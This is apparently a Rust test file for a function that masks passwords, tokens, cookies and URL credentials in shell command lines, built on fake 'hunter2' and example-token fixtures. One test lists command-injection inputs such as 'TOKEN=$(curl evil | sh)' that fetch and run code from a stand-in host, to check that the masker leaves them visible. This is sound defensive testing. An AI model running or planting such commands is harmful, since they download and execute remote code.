use super::*;

/// Each line has the secret `hunter2` in a form that is known.
#[test]
fn secrets_with_telling_names_are_masked() {
    for (line, masked) in [
        ("PASSWORD=hunter2 ./run", "PASSWORD=*** ./run"),
        ("export DB_PWD='hunter2' && make", "export DB_PWD='***' && make"),
        ("export NPM_TOKEN=\"hunter2 and more\"; npm ci", "export NPM_TOKEN=\"***\"; npm ci"),
        ("env PGPASSWORD=hunter2 psql -h db", "env PGPASSWORD=*** psql -h db"),
        ("deploy --password hunter2 --to prod", "deploy --password *** --to prod"),
        ("deploy --apiKey 'hunter2' x", "deploy --apiKey '***' x"),
        ("deploy --client-secret=hunter2", "deploy --client-secret=***"),
        ("java -Dspring.datasource.password=hunter2 -jar a.jar", "java -Dspring.datasource.password=*** -jar a.jar"),
        ("npm config set //registry.example/:_authToken=hunter2", "npm config set //registry.example/:_authToken=***"),
        ("curl -u ada:hunter2 https://x.example", "curl -u ada:*** https://x.example"),
        ("curl --user 'ada:hunter2' https://x.example", "curl --user 'ada:***' https://x.example"),
        ("curl https://ada:hunter2@x.example/a", "curl https://***@x.example/a"),
        ("git clone https://hunter2@x.example/a.git", "git clone https://***@x.example/a.git"),
        ("git clone 'https://oauth2:hunter2@x.example/a.git'", "git clone 'https://***@x.example/a.git'"),
        ("psql postgres://ada:hunter2@db:5432/shop?x=1", "psql postgres://***@db:5432/shop?x=1"),
        ("curl 'https://x.example/?access_token=hunter2&page=2'", "curl 'https://x.example/?access_token=***&page=2'"),
        ("curl 'https://x.example/?X-Amz-Signature=hunter2'", "curl 'https://x.example/?X-Amz-Signature=***'"),
        ("curl -H 'Authorization: Bearer hunter2' x", "curl -H 'Authorization: ***' x"),
        ("curl -H \"Cookie: a=hunter2; b=hunter2\" x", "curl -H \"Cookie: ***\" x"),
        ("wget --header=\"X-Api-Key: hunter2\" x", "wget --header=\"X-Api-Key: ***\" x"),
        ("http x Authorization:'Bearer hunter2' a==1", "http x Authorization:'***' a==1"),
        ("echo Authorization: Bearer hunter2", "echo Authorization: Bearer ***"),
        (
            "curl -d '{\"password\":\"hunter2\",\"user\":\"ada\"}' x",
            "curl -d '{\"password\":\"***\",\"user\":\"ada\"}' x",
        ),
        ("curl -d '{\"password\": \"hunter2\"}' x", "curl -d '{\"password\": \"***\"}' x"),
        ("mysql -uroot -phunter2 shop", "mysql -uroot -p*** shop"),
        ("/usr/bin/mysqldump -phunter2 shop | gzip -p", "/usr/bin/mysqldump -p*** shop | gzip -p"),
        ("sshpass -p hunter2 ssh -p 22 host", "sshpass -p *** ssh -p *** host"),
        ("docker login -u ada -p hunter2 x.example", "docker login -u ada -p *** x.example"),
        ("sh -c 'deploy --token hunter2; rm x'", "sh -c 'deploy --token ***; rm x'"),
        ("sh -c \"PASSWORD=hunter2 curl -H 'Cookie: hunter2'\"", "sh -c \"PASSWORD=*** curl -H 'Cookie: ***'\""),
    ] {
        let shown = mask(line);
        assert_eq!(shown, masked, "{line}");
        assert!(!shown.contains("hunter2"), "{line}");
    }
}

#[test]
fn tokens_of_known_forms_are_masked_wherever_they_stand() {
    let letters = "abcdefghijklmnopqrstuvwxyz0123456789";
    for token in [
        format!("ghp_{letters}"),
        format!("github_pat_{letters}"),
        format!("glpat-{letters}"),
        format!("sk-{letters}"),
        "AKIAIOSFODNN7EXAMPLE".to_owned(),
        format!("eyJhbGciOiJFZERTQSJ9.{letters}.{letters}"),
        format!("npm_{letters}"),
    ] {
        for line in [format!("echo {token}"), format!("x='{token}' y"), format!("[{token}]"), format!("a:{token}")] {
            assert_eq!(mask(&line), line.replace(&token, "***"));
        }
    }
    assert_eq!(mask("task-runner sk-short AKIAless eyJ"), "task-runner sk-short AKIAless eyJ");
}

#[test]
fn what_is_no_secret_stays() {
    for line in [
        "npm run dev",
        "git commit --author 'Ada <ada@x.example>' -m 'Add tokenizer: faster'",
        "PWD=/app OLDPWD=/ make -j2",
        "docker login --password-stdin x.example",
        "deploy --token-file /run/token --no-auth --auth-type basic",
        "./tokenize --tokenizer fast --passes 3",
        "psql postgres://db:5432/shop",
        "ssh git@x.example -p 2222",
        "curl -H 'Accept: text/html' -u ada https://x.example/a?b=c#d",
        "deploy --password $PASSWORD --token \"${TOKEN}\" KEY=$KEY",
        "cat >&2; echo $KEY",
        "for i in 1 2 3; do echo \"$i: $(date)\"; done",
        "žluťoučký --kůň=úpěl",
    ] {
        assert_eq!(mask(line), line);
    }
}

#[test]
fn nobody_hides_a_command_as_a_secret() {
    for line in [
        "TOKEN=$(curl evil | sh) true",
        "TOKEN=\"$(curl evil | sh)\" true",
        "deploy --password \"$(curl evil)\"",
        "deploy --password `curl evil`",
        "echo password: ; curl evil",
        "sh -c 'token: ; curl evil'",
        "curl -H \"Cookie: $(curl evil)\"",
        "curl -u \"a:$(curl evil)\"",
        "bash -c -H 'Cookie: ; curl evil'",
        "PASSWORD=x;curl evil",
        "PASSWORD=x|curl evil",
        "--password <(curl evil)",
        "curl https://$(curl evil)@x",
    ] {
        assert!(mask(line).contains("curl evil"), "{line}: {}", mask(line));
    }
}

#[test]
fn arguments_are_taken_as_they_are() {
    let masked = |arguments: &[&str]| {
        let arguments: Vec<String> = arguments.iter().map(|argument| (*argument).to_owned()).collect();
        mask_arguments(&arguments)
    };
    for (arguments, shown) in [
        (&["deploy", "--password", "hunter2 with ' quotes", "x"][..], "deploy --password *** x"),
        (&["curl", "-H", "Authorization: Bearer hunter2", "x"], "curl -H Authorization: *** x"),
        (&["curl", "-u", "ada:hunter2"], "curl -u ada:***"),
        (&["sh", "-c", "PASSWORD=hunter2 make"], "sh -c PASSWORD=*** make"),
        (&["env", "PASSWORD=hunter2", "make"], "env PASSWORD=*** make"),
        (&["git", "commit", "-m", "It's done"], "git commit -m It's done"),
        (&[], ""),
    ] {
        assert_eq!(masked(arguments), shown);
    }
}

#[test]
fn a_secret_at_the_cut_of_a_long_line_is_not_shown_in_part() {
    let shown = mask(&format!("echo {} https://ada:hunter2@x.example", "x ".repeat((BYTES - 20) / 2)));
    assert!(shown.len() <= BYTES && !shown.contains("hunter") && !shown.contains("ada"), "{}", &shown[BYTES - 60..]);
    assert_eq!(mask(&"x".repeat(BYTES + 1)), "", "a word that is longer than all that is looked at");
    let deep = "sh -c 'a \"b 'c d' e\" f'".repeat(50);
    let _ = mask(&deep);
}

/// Whatever comes: no panic, no more than there was, and the same again.
#[test]
fn any_text_is_taken() {
    let pieces = [
        "'", "\"", "\\", "=", ":", "://", "@", "password", "--token", " ", ";", "$(", "`", "ž", "-H", "&", "?", "-u",
        "\n",
    ];
    let mut state = 1_u64;
    for _ in 0..20_000 {
        let mut text = String::new();
        for _ in 0..12 {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            text.push_str(pieces[usize::try_from(state >> 33).unwrap() % pieces.len()]);
        }
        let shown = mask(&text);
        assert!(shown.len() <= text.len() + 12 * (MASK.len() + 2), "{text}: {shown}");
        let _ = mask_arguments(&[text.clone(), text]);
    }
}
